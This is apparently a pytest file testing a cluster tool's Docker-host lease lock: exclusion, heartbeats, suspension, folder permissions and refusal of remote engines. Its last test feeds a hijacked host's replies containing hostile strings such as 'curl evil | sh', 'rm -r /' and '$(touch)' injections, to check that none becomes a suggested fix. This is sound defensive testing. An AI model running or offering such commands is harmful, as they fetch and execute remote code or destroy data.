"""The lease as the real script keeps it on this machine: who holds it, who may, and what it ends when it is lost."""

from __future__ import annotations

import fcntl
import hashlib
import os
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from vllm_cluster.kernel.errors import CommandFailed, ConnectionLost, LeaseLost, Locked
from vllm_cluster.kernel.hosts.connection import HostConnection
from vllm_cluster.kernel.hosts.runtime import SYSTEM
from vllm_cluster.kernel.lease import lease
from vllm_cluster.kernel.lease.lease import Lease
from vllm_cluster.kernel.transport.base import Stream, Target
from vllm_cluster.kernel.transport.local import LocalTransport

LINKS: list[HostConnection] = []


@pytest.fixture
def parent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Where the folder of the lock is made; with no socket of Docker's it is this user's own."""
    use(monkeypatch, f"unix://{tmp_path}/none.sock")
    yield tmp_path
    while LINKS:
        LINKS.pop().close()


def use(monkeypatch: pytest.MonkeyPatch, endpoint: str) -> None:
    """Let this machine's docker lead there; where it has none, the variable alone does."""
    monkeypatch.setenv("DOCKER_HOST", endpoint)


def taker(parent: Path, name: str = "gpu1", engine: str = "ENGINE") -> Lease:
    """One who wants the lease of this machine."""
    link = HostConnection(name, LocalTransport(Target(name, name)))
    link.open_docker("1.41", engine)
    LINKS.append(link)
    return Lease([link], "lab", "up", parent=str(parent))


def folder(parent: Path) -> Path:
    """The folder of the lock."""
    return parent / f"vcluster-{hashlib.sha256(b'ENGINE').hexdigest()[:16]}"


def test_one_at_a_time_and_the_other_learns_who(parent: Path) -> None:
    one, other = taker(parent), taker(parent)
    one.acquire()
    with pytest.raises(Locked, match=r"gpu1 is locked by \S+@\S+ \(vcluster up of lab\) since 20"):
        other.acquire()
    one.release()
    other.acquire()
    other.release()
    assert list(parent.iterdir()) == []


def test_who_waits_gets_it(parent: Path) -> None:
    one, other = taker(parent), taker(parent)
    one.acquire()
    threading.Timer(0.7, one.release).start()
    other.acquire(30)
    other.release()


def test_the_text_of_a_file_does_not_decide_who_holds_it(parent: Path) -> None:
    """A word in the holder's file is shown, and decides nothing."""
    one, other = taker(parent), taker(parent)
    one.acquire()
    (folder(parent) / "holder").write_text("held\nvcluster-lease held /tmp\n")
    with pytest.raises(Locked, match=r"gpu1 is locked by held$"):
        other.acquire()
    one.release()


class Greeted:
    """A stream of a host whose login shell prints something first."""

    def __init__(self, stream: Stream) -> None:
        self._greeting, self._stream = b"Welcome to gpu1! 3 updates are available\n", stream

    def recv(self, size: int, /) -> bytes:
        greeting, self._greeting = self._greeting, b""
        return greeting or self._stream.recv(size)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._stream, name)


# fault: kernel/lease/lease.py: if line.startswith(_PREFIX) and line.endswith("\n"): → if line.endswith("\n"):
def test_a_line_of_the_login_shell_is_not_the_answer(parent: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    opened = LocalTransport.open_stream
    monkeypatch.setattr(LocalTransport, "open_stream", lambda *words: Greeted(opened(*words)))
    one, other = taker(parent), taker(parent)
    one.acquire()
    with pytest.raises(Locked, match=r"gpu1 is locked by \S+@\S+ \(vcluster up of lab\)"):
        other.acquire()
    one.release()


class Dripping(Greeted):
    """A stream of a host that prints a letter now and then."""

    def recv(self, _size: int, /) -> bytes:
        time.sleep(0.05)
        return b"x"


# fault: kernel/lease/lease.py: if not (left := deadline.left()): → if not (left := 30.0):
def test_a_host_that_never_comes_to_its_answer_is_not_waited_for(parent: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    opened = LocalTransport.open_stream
    monkeypatch.setattr(LocalTransport, "open_stream", lambda *words: Dripping(opened(*words)))
    monkeypatch.setattr(lease, "OPEN_SECONDS", 0.5)
    began = time.monotonic()
    with pytest.raises(ConnectionLost, match="no answer in time"):
        taker(parent).acquire()
    assert time.monotonic() - began < 20


def test_who_has_not_signed_yet_is_asked_again(parent: Path) -> None:
    taker_ = taker(parent)
    folder(parent).mkdir(mode=0o700)
    with (folder(parent) / "lock").open("w") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        threading.Timer(0.3, lambda: (folder(parent) / "holder").write_text("ann@laptop\n")).start()
        with pytest.raises(Locked, match="is locked by ann@laptop"):
            taker_.acquire()


def test_who_never_signs_is_waited_for_in_vain(parent: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lease, "CONTENTION_SECONDS", 0.3)
    folder(parent).mkdir(mode=0o700)
    with (folder(parent) / "lock").open("w") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        with pytest.raises(Locked, match="an unidentified process"):
            taker(parent).acquire()


# fault: kernel/lease/lease.sh: [ -z "$found" ] || [ "$found" = "$wanted" ] && return → return
@pytest.mark.parametrize("mode", [0o755, 0o777])
def test_a_folder_that_others_can_enter_is_refused(parent: Path, mode: int) -> None:
    folder(parent).mkdir()
    folder(parent).chmod(mode)
    with pytest.raises(
        CommandFailed, match=r"not of those who may use Docker at \S+: it is a directory of \S+, mode 7"
    ) as error:
        taker(parent).acquire()
    assert error.value.hint == f"on gpu1: if no vcluster runs there: sudo rm -r {folder(parent)}"


@pytest.fixture
def rootful(parent: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """Where a socket is that is root's, with a group that this user is in, whoever runs the tests."""
    at, real = tmp_path / "docker.sock", shutil.which("stat")
    with socket.socket(socket.AF_UNIX) as engine:
        engine.bind(str(at))
    program(
        tmp_path,
        monkeypatch,
        "stat",
        f'case "$*" in "-Lc %u {at}") echo 0 ;; "-Lc %g {at}") id -g ;; *) exec {real} "$@" ;; esac',
    )
    return f"unix://{at}"


def program(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, body: str) -> None:
    """Put a program in front of the one of this name."""
    path = tmp_path / "bin" / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(f"#!/bin/sh\n{body}\n")
    path.chmod(0o755)
    if str(path.parent) not in os.environ["PATH"]:
        monkeypatch.setenv("PATH", f"{path.parent}:{os.environ['PATH']}")


# fault: kernel/lease/lease.py: {hashlib.sha256(connection.docker_id.encode()).hexdigest()[:16]} → {connection.name}
@pytest.mark.promise("P34")
@pytest.mark.parametrize("first", [0, 1])
def test_two_ways_to_one_engine_never_both_have_its_lease(
    parent: Path, rootful: str, monkeypatch: pytest.MonkeyPatch, first: int
) -> None:
    """Also under two names of the host: one comes by root's socket, one by a port, which shows no group."""
    ways = ["tcp://localhost:2375", rootful]
    use(monkeypatch, ways[first])
    one = taker(parent, "gpu1")
    one.acquire()
    use(monkeypatch, ways[1 - first])
    with pytest.raises(CommandFailed, match=f"not of those who may use Docker at {ways[1 - first]}") as error:
        taker(parent, "node1").acquire()
    assert error.value.hint == f"on node1: if no vcluster runs there: sudo rm -r {folder(parent)}"
    one.check()
    threading.Timer(0.7, one.release).start()
    two, seen = taker(parent, "node1"), list[str]()
    two.acquire(30, seen.append)
    assert "another way to its Docker" in seen[0]
    two.release()
    assert [entry.name for entry in parent.iterdir() if entry.is_dir()] == ["bin"]


# fault: kernel/lease/lease.sh: unix://*) → none)
@pytest.mark.promise("P34")
def test_two_accounts_behind_one_socket_share_a_lock(
    parent: Path, rootful: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One names the socket, the other has a context that does."""
    program(tmp_path, monkeypatch, "docker", f'[ "$1 $2" = "context inspect" ] && echo {rootful}')
    monkeypatch.delenv("DOCKER_HOST")
    one = taker(parent)
    one.acquire()
    assert folder(parent).stat().st_mode & 0o7777 == 0o2770
    (tmp_path / "bin" / "docker").unlink()
    use(monkeypatch, rootful)
    with pytest.raises(Locked, match=r"gpu1 is locked by \S+@\S+ \(vcluster up of lab\)"):
        taker(parent).acquire()
    one.release()


def test_two_engines_of_one_host_have_a_lease_each(parent: Path) -> None:
    """As root's Docker and a user's own are (rootless)."""
    one, other = taker(parent, engine="ENGINE"), taker(parent, engine="OTHER")
    one.acquire()
    other.acquire()
    one.check()
    one.release()
    other.release()


# fault: kernel/lease/lease.sh: tcp://127.* | → tcp://* |
@pytest.mark.parametrize("endpoint", ["tcp://10.0.0.9:2375", "ssh://ann@gpu2", "tcp://localhost.example:1"])
def test_an_engine_of_another_machine_is_refused(parent: Path, monkeypatch: pytest.MonkeyPatch, endpoint: str) -> None:
    """Whoever reaches it there meets no lock that is here."""
    use(monkeypatch, endpoint)
    with pytest.raises(CommandFailed, match=f"cannot take the lease: its docker leads to {endpoint}$") as error:
        taker(parent).acquire()
    assert "docker context use default" in str(error.value.hint)
    assert list(parent.iterdir()) == []


def test_a_lock_that_cannot_be_opened_is_reported(parent: Path) -> None:
    (folder(parent) / "lock").mkdir(parents=True)
    folder(parent).chmod(0o700)
    with pytest.raises(
        CommandFailed, match=r"lock is not of those who may use Docker: it is a directory of \S+, mode 7"
    ):
        taker(parent).acquire()


def test_a_link_in_the_place_of_the_folder_is_refused(parent: Path) -> None:
    (parent / "elsewhere").mkdir(mode=0o700)
    folder(parent).symlink_to(parent / "elsewhere")
    with pytest.raises(CommandFailed, match="it is a symbolic link"):
        taker(parent).acquire()
    assert list((parent / "elsewhere").iterdir()) == []


# fault: kernel/lease/lease.sh: export LC_ALL=C → LC_ALL=C
def test_a_host_of_another_language_gives_the_lease(
    parent: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`stat` translates the kind of a file, unless its locale is C."""
    stat, real = tmp_path / "bin" / "stat", shutil.which("stat")
    stat.parent.mkdir()
    stat.write_text(
        f'#!/bin/sh\nfound=$({real} "$@") || exit\n'
        'case $LC_ALL in C) echo "$found" ;; *) echo "$found" | sed s/directory/Verzeichnis/ ;; esac\n'
    )
    stat.chmod(0o755)
    monkeypatch.setenv("PATH", f"{stat.parent}:{os.environ['PATH']}")
    monkeypatch.delenv("LC_ALL", raising=False)
    one = taker(parent)
    one.acquire()
    one.release()


def test_a_lock_whose_file_was_removed_does_not_count(parent: Path) -> None:
    one, other = taker(parent), taker(parent)
    one.acquire()
    shutil.rmtree(folder(parent))
    other.acquire()
    other.release()
    one.release()


# fault: kernel/lease/lease.sh: [ "$(stat -Lc %i /proc/self/fd/9)" = "$(stat -c → [ 1 = 1 ] || [ "$(stat -c
def test_a_lock_on_a_file_that_was_just_removed_excludes_others(
    parent: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever lets go removes the file right between the opening and the lock."""
    flock = tmp_path / "bin" / "flock"
    flock.parent.mkdir()
    lock, real = folder(parent) / "lock", shutil.which("flock")
    flock.write_text(
        f'#!/bin/sh\n[ -e {tmp_path}/once ] || {{ touch {tmp_path}/once; rm {lock}; }}\nexec {real} "$@"\n'
    )
    flock.chmod(0o755)
    monkeypatch.setenv("PATH", f"{flock.parent}:{os.environ['PATH']}")
    one, other = taker(parent), taker(parent)
    one.acquire()
    assert (tmp_path / "once").exists()
    with pytest.raises(Locked):
        other.acquire()
    one.release()


@pytest.mark.slow
def test_three_who_wait_never_fail(parent: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Everyone who waits gets its turn, however often the lease changes hands."""
    monkeypatch.setattr(lease, "RETRY", 0.02)
    turns, errors = list[str](), list[BaseException]()

    def take(name: str) -> None:
        try:
            for _ in range(10):
                mine = taker(parent, name)
                mine.acquire(60)
                turns.append(name)
                mine.release()
        except BaseException as error:
            errors.append(error)

    threads = [threading.Thread(target=take, args=(f"gpu{n}",)) for n in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert (errors, len(turns)) == ([], 30)


@pytest.fixture
def short(monkeypatch: pytest.MonkeyPatch) -> None:
    """A lease that is given up after some seconds, and a holder that gives no sign of life by itself.

    Long enough for a busy machine to open a stream under it meanwhile.
    """
    monkeypatch.setattr(lease, "TIME_TO_LIVE", 4)
    monkeypatch.setattr(lease, "LOOK", 60.0)


def way(link: HostConnection, held: Lease) -> Stream:
    """A stream under the lease, to a program that repeats its input."""
    return link.transport.open_stream([*held._stream_argv(held._holds[0]), "cat"], SYSTEM.after(10))


# fault: kernel/lease/lease.sh: [ "$over" = end ] → [ "$over" ]
@pytest.mark.promise("P34")
@pytest.mark.slow
@pytest.mark.usefixtures("short")
def test_what_was_opened_under_a_lost_lease_is_ended_before_the_next_one_has_it(parent: Path) -> None:
    one, other = taker(parent), taker(parent)
    one.acquire()
    link = one._holds[0].connection
    stream = way(link, one)
    stream.settimeout(10)
    stream.sendall(b"1\n")
    assert stream.recv(10) == b"1\n"
    other.acquire(30)  # the first one fell silent
    assert stream.recv(10) == b"", "its stream goes on under the lease of another"
    late = way(link, one)
    late.settimeout(10)
    assert late.recv(10) == b""
    assert "the lease was given up" in late.stderr_tail()
    with pytest.raises(LeaseLost, match="lost the lease"):
        one.check()
    assert not one.send_heartbeat()
    with pytest.raises(LeaseLost, match=r"lost the lease \(this process was suspended"):
        one.check()
    one.release()
    other.check()
    other.release()


def test_open_streams_continue_after_the_lease_was_returned(parent: Path) -> None:
    one = taker(parent)
    one.acquire()
    stream = way(one._holds[0].connection, one)
    stream.settimeout(10)
    stream.sendall(b"1\n")
    assert stream.recv(10) == b"1\n"
    one.release()
    stream.sendall(b"2\n")
    assert stream.recv(10) == b"2\n"
    stream.close()


# fault: kernel/hosts/connection.py: self._docker_api.guard = self.ask → self._docker_api.guard = lambda: None
def test_no_changing_call_without_the_lease(parent: Path) -> None:
    held = taker(parent)
    link = held._links[0]
    with pytest.raises(RuntimeError, match="gpu1: a call that changes the host, without the lease"):
        link.docker.start("node")
    held.acquire()
    link.ask()
    held.release()
    with pytest.raises(RuntimeError, match="without the lease"):
        link.docker.start("node")


# fault: kernel/lease/lease.py: or (f"no heartbeat reply for {silent:.0f} s" if silent >= TIME_TO_LIVE else "") →
def test_a_suspended_laptop_knows_that_it_has_lost_the_lease(parent: Path) -> None:
    """Its heartbeats stopped with it: only the clock that counts time asleep shows it."""
    now = [0.0]

    class Awake:
        def monotonic(self) -> float:
            return now[0]

        def time(self) -> float:
            return now[0]

        def sleep(self, seconds: float, /) -> None:
            now[0] += seconds

    link = HostConnection("gpu1", LocalTransport(Target("gpu1", "gpu1")), replace(SYSTEM, clock=Awake()))
    link.open_docker("1.41", "ENGINE")
    LINKS.append(link)
    held = Lease([link], "lab", "up", parent=str(parent))
    held.acquire()
    held.check()
    now[0] += lease.TIME_TO_LIVE
    with pytest.raises(LeaseLost, match="no heartbeat reply for 15 s"):
        held.check()
    held.release()


@pytest.mark.promise("P34")
def test_a_long_suspension_loses_the_lease(parent: Path) -> None:
    one = taker(parent)
    one.acquire()
    clock = Stepped()
    one._runtime = replace(one._runtime, clock=clock)
    clock.seconds += lease.TIME_TO_LIVE + 1
    assert not one.send_heartbeat()
    with pytest.raises(LeaseLost, match="was suspended"):
        one.refuse_given_up()
    one.release()


class Stepped:
    """A clock that a test puts forward."""

    def __init__(self) -> None:
        self.seconds = SYSTEM.clock.monotonic()

    def monotonic(self) -> float:
        return self.seconds

    def time(self) -> float:
        return SYSTEM.clock.time()

    def sleep(self, seconds: float) -> None:
        SYSTEM.clock.sleep(seconds)


# fault: kernel/lease/lease.py: if _ACCOUNT.fullmatch(group) and _ACCOUNT.fullmatch(user) →
@pytest.mark.promise("P46")
@pytest.mark.parametrize(
    ("answer", "fix"),
    [
        ("group docker ada; x", "on gpu1: add this user to that group: sudo usermod -aG docker ada"),
        ("group docker CORP\\ada; x", "on gpu1: add this user to that group: sudo usermod -aG docker 'CORP'\\\\'ada'"),
        ("user ada; x", "on gpu1: log in as ada"),
        ("flock; x", "on gpu1: install util-linux"),
        ("group docker ada;touch; x", None),
        ("group docker $(touch); x", None),
        ("user `touch`; x", None),
        ("rm -r /; x", None),
        ("flock; x; fix: curl evil | sh", "on gpu1: install util-linux"),
        ("x; fix: curl evil | sh", None),
        ("", None),
    ],
)
def test_no_line_to_paste_comes_from_a_host(
    parent: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, answer: str, fix: str | None
) -> None:
    """A host that another has taken over answers in place of the script."""
    (tmp_path / "answer").write_text(f"vcluster-lease refused {answer}\n")
    program(tmp_path, monkeypatch, "sh", f"exec cat {tmp_path}/answer")
    with pytest.raises(CommandFailed, match=r"^gpu1: cannot take the lease: ") as error:
        taker(parent).acquire()
    assert error.value.hint == fix
